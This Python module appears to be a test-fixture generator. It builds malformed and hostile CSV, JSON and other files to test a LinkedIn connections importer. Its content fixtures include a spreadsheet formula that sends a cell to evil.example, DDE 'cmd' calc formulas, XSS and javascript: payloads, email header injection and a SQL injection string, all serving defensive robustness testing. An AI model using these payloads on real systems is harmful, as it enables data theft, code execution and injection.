"""Bad text files: encodings, broken structure, hostile content, JSON and other families.

Each builder returns the file's bytes. Every CSV is a Connections.csv (the
header LinkedIn writes) unless its point is a different header.
"""

from __future__ import annotations

import codecs
import json
import random
import unicodedata
from collections.abc import Callable

HEADER = "First Name,Last Name,URL,Email Address,Company,Position,Connected On\n"
ROW = "{first},{last},https://www.linkedin.com/in/{slug},,{company},Engineer,07 Dec 2024\n"


def people(count: int = 3, company: str = "Acme") -> str:
    rows = (
        ROW.format(first=f"Zoë{n}", last="Ñúñez", slug=f"corpus-person-{n}", company=company)
        for n in range(count)
    )
    return HEADER + "".join(rows)


def connections(*rows: str) -> bytes:
    return (HEADER + "".join(rows)).encode()


def row(first: str = "Ada", last: str = "Lovelace", slug: str = "ada", **more: str) -> str:
    values = {"company": "Acme", "position": "Engineer", "email": "", "date": "07 Dec 2024"}
    values.update(more)
    url = f"https://www.linkedin.com/in/{slug}" if slug else ""
    return (
        f"{first},{last},{url},{values['email']},{values['company']},"
        f"{values['position']},{values['date']}\n"
    )


def _quoted(value: str) -> str:
    return '"' + value.replace('"', '""') + '"'


ENCODINGS: dict[str, Callable[[], bytes]] = {
    "utf8_bom.csv": lambda: codecs.BOM_UTF8 + people().encode(),
    "utf16le_bom.csv": lambda: codecs.BOM_UTF16_LE + people().encode("utf-16-le"),
    "utf16be_bom.csv": lambda: codecs.BOM_UTF16_BE + people().encode("utf-16-be"),
    "utf16le_no_bom.csv": lambda: people().encode("utf-16-le"),
    "utf16be_no_bom.csv": lambda: people().encode("utf-16-be"),
    "utf32le_bom.csv": lambda: codecs.BOM_UTF32_LE + people().encode("utf-32-le"),
    "cp1252.csv": lambda: people().encode("cp1252"),
    "mixed_utf8_and_cp1252.csv": lambda: (
        HEADER.encode()
        + row("Zoë", "A", "zoe-a").encode()
        + row("Zoë", "B", "zoe-b").encode("cp1252")
    ),
    "utf8_cut_inside_a_character.csv": lambda: (
        connections(row("Zoë", "Cut", "zoe-cut"))[:-1] + "é".encode()[:1]
    ),
    "utf16_odd_length.csv": lambda: codecs.BOM_UTF16_LE + people().encode("utf-16-le") + b"\x41",
    "utf16_lone_surrogate_bytes.csv": lambda: (
        codecs.BOM_UTF16_LE + people().encode("utf-16-le") + b"\x00\xd8A\x00\n\x00"
    ),
    "bom_only.csv": lambda: codecs.BOM_UTF8,
}

STRUCTURE: dict[str, Callable[[], bytes]] = {
    "empty.csv": lambda: b"",
    "whitespace_only.csv": lambda: b"  \n\t\n   \r\n",
    "newlines_only.csv": lambda: b"\n" * 10_000,
    "header_only.csv": lambda: HEADER.encode(),
    "header_only_crlf_no_newline.csv": lambda: HEADER.strip().encode(),
    "ragged_rows.csv": lambda: connections(
        "Ada,Lovelace\n",
        row("Grace", "Hopper", "grace-hopper"),
        "Alan,Turing,https://www.linkedin.com/in/alan-turing,,Bletchley,Cryptanalyst,"
        "07 Dec 2024,extra,cells,here\n",
        ",,,,,,\n",
    ),
    "duplicate_headers.csv": lambda: (
        b"First Name,First Name,URL,URL,Company,Company,Connected On\n"
        b"Ada,Augusta,https://www.linkedin.com/in/ada-dup,https://www.linkedin.com/in/x,"
        b"A,B,07 Dec 2024\n"
    ),
    "unterminated_quote.csv": lambda: connections(
        row("Grace", "Hopper", "grace-quote"), '"Ada,Lovelace,https://www.linkedin.com/in/ada\n'
    ),
    "field_200kb.csv": lambda: connections(row("Big", "Field", "big-field", company="x" * 200_000)),
    "line_10mb.csv": lambda: connections(row("Huge", "Line", "huge-line"), "y" * 10_000_000),
    "columns_10000.csv": lambda: (
        ",".join([*HEADER.strip().split(","), *(f"c{n}" for n in range(10_000))])
        + "\n"
        + row("Wide", "Row", "wide-row").strip()
        + ",v" * 10_000
        + "\n"
    ).encode(),
    "cr_only_line_ends.csv": lambda: people().replace("\n", "\r").encode(),
    "notes_preamble_only.csv": lambda: b'Notes:\n"When exporting your connection data..."\n\n',
    "rows_without_identity.csv": lambda: connections(*(",,,,Acme,Engineer,\n" for _ in range(50))),
    "semicolons_with_quoted_commas.csv": lambda: (
        HEADER.replace(",", ";") + '"Ada, Countess";Lovelace;https://www.linkedin.com/in/ada-semi;;'
        '"Acme; Inc";Engineer;07 Dec 2024\n'
    ).encode(),
    "garbage_dates.csv": lambda: connections(
        *(
            row("Date", str(n), f"date-{n}", date=date)
            for n, date in enumerate(
                ["31 Feb 2024", "99/99/9999", "0000-00-00", "10000-01-01", "yesterday", "-1"]
            )
        )
    ),
}

CONTENT: dict[str, Callable[[], bytes]] = {
    "nul_bytes.csv": lambda: connections(row("Nul\x00l", "By\x00te", "nul-byte", company="A\x00B")),
    "formula_hyperlink.csv": lambda: connections(
        row(_quoted('=HYPERLINK("http://evil.example/?x="&A1,"click")'), "Formula", "f-link")
    ),
    "formula_plus.csv": lambda: connections(row("+cmd|' /C calc'!A0", "Plus", "f-plus")),
    "formula_minus.csv": lambda: connections(row("-2+3+cmd|' /C calc'!A0", "Minus", "f-minus")),
    "formula_at.csv": lambda: connections(row("@SUM(1+1)*cmd|' /C calc'!A0", "At", "f-at")),
    "formula_tab_and_cr.csv": lambda: connections(
        row(_quoted("\t=1+1"), _quoted("\r=2+2"), "f-tab")
    ),
    "html_and_script.csv": lambda: connections(
        row(
            "<script>alert('x')</script>",
            "<img src=x onerror=alert(1)>",
            "html-person",
            company="<b>Bold</b> &amp; co",
        )
    ),
    "javascript_urls.csv": lambda: connections(
        "Js,Url,javascript:alert(document.cookie),,Acme,Engineer,07 Dec 2024\n",
        "Data,Url,data:text/html;base64,PHNjcmlwdD4=,,Acme,Engineer,07 Dec 2024\n",
        "Evil,Host,https://linkedin.com.evil.example/in/evil-host,,Acme,Engineer,07 Dec 2024\n",
    ),
    "bidi_overrides.csv": lambda: connections(
        row("Ada\u202egpj.exe", "\u2066Love\u2069lace", "bidi-\u202eperson")
    ),
    "nfd_and_nfc_names.csv": lambda: connections(
        row(unicodedata.normalize("NFC", "Zoë"), "Nfc", unicodedata.normalize("NFC", "zoë-same")),
        row(unicodedata.normalize("NFD", "Zoë"), "Nfd", unicodedata.normalize("NFD", "zoë-same")),
    ),
    "values_longer_than_columns.csv": lambda: connections(
        row(
            "F" * 5_000,
            "L" * 5_000,
            "s" * 3_000,
            company="C" * 5_000,
            position="P" * 5_000,
            email="e" * 400 + "@example.org",
        )
    ),
    "control_characters.csv": lambda: connections(
        row("Ctl" + "".join(chr(c) for c in range(1, 32) if chr(c) not in '\r\n,"'), "Ch", "ctl")
    ),
    "zero_width_and_emoji.csv": lambda: connections(
        row("Z\u200bero", "W\u200didth 👩\u200d💻", "zero\u200bwidth"),
        row("\U0001d518\U0001d52b", "Cöde", "astral-😀"),
    ),
    "percent_encoded_slugs.csv": lambda: connections(
        row("Pct", "Nul", "pct%00nul"),
        row("Pct", "Slash", "pct%2Fslash"),
        row("Pct", "Bad", "pct%ZZbad"),
        row("Pct", "Latin", "pct%E9latin"),
    ),
    "email_header_injection.csv": lambda: connections(
        row("Mail", "Inject", "", email=_quoted("a@example.org\nBcc: all@example.org")),
        row("Mail", "Plain", "", email="MAILTO:Mixed.Case@Example.ORG"),
    ),
    "sql_like_values.csv": lambda: connections(
        row(
            "Robert'); DROP TABLE contacts_contact;--",
            "Tables",
            "bobby-tables",
            company="' OR 1=1 --",
        )
    ),
}


def _nested(depth: int, opener: str, closer: str) -> bytes:
    return (opener * depth + closer * depth).encode()


JSON: dict[str, Callable[[], bytes]] = {
    "nesting_100000_arrays.json": lambda: _nested(100_000, "[", "]"),
    "nesting_100000_objects.json": lambda: ('{"a":' * 100_000 + "1" + "}" * 100_000).encode(),
    "duplicate_keys.json": lambda: (
        b'[{"first_name":"Ada","first_name":"Eve","profile_url":'
        b'"https://www.linkedin.com/in/dup-keys","profile_url":"https://www.linkedin.com/in/x"}]'
    ),
    "nan_and_infinity.json": lambda: (
        b'[{"first_name":NaN,"last_name":Infinity,"profile_url":-Infinity,"n":NaN}]'
    ),
    "number_5000_digits.json": lambda: (
        '[{"first_name":"Big","last_name":' + "9" * 5000 + ',"connected_on":' + "1" * 5000 + "}]"
    ).encode(),
    "lone_surrogates.json": lambda: (
        b'[{"first_name":"\\ud800","last_name":"\\udfff x","profile_url":'
        b'"https://www.linkedin.com/in/lone-\\ud83d"}]'
    ),
    "wrong_shape_scalar.json": lambda: b'"just a string"',
    "wrong_shape_object.json": lambda: b'{"connections": 42, "people": "none"}',
    "wrong_shape_strings.json": lambda: json.dumps(["Ada", "Grace", None, 1, True]).encode(),
    "wrong_shape_mixed_rows.json": lambda: json.dumps(
        [{"first_name": "Ada"}, [1, 2], "x", None, {"first_name": {"nested": "obj"}}]
    ).encode(),
    "truncated.json": lambda: b'[{"first_name":"Ada","last_name":"Love',
    "nul_in_strings.json": lambda: (
        b'[{"first_name":"A\\u0000da","last_name":"L\\u0000","company":"\\u0000x",'
        b'"profile_url":"https://www.linkedin.com/in/nul-\\u0000-slug"}]'
    ),
    "ndjson_nul_byte_past_the_sniff.ndjson": lambda: (
        b'{"first_name":"Ada","last_name":"Lovelace"}\n' * 200
        + b'{"first_name":"Nul\x00Byte", broken\n'
    ),
    "ndjson_with_bad_lines.ndjson": lambda: (
        b'{"first_name":"Ada","last_name":"Lovelace"}\n{broken\n\n[1,2]\n'
        b'{"first_name":"Grace","last_name":"Hopper"}\n'
    ),
}

OTHER: dict[str, Callable[[], bytes]] = {
    "pdf_named_csv.csv": lambda: b"%PDF-1.7\n" + bytes(500),
    "png_named_csv.csv": lambda: b"\x89PNG\r\n\x1a\n" + bytes(500),
    "gzip.csv.gz": lambda: b"\x1f\x8b\x08\x00" + bytes(100),
    "random_binary.bin": lambda: random.Random(6).randbytes(64 * 1024),
    "vcard_unterminated.vcf": lambda: b"BEGIN:VCARD\nVERSION:3.0\nFN:Ada Lovelace\nN:Lovelace\n",
    "vcard_long_line.vcf": lambda: (
        b"BEGIN:VCARD\nVERSION:3.0\nFN:" + b"A" * 5_000_000 + b"\nEND:VCARD\n"
    ),
}
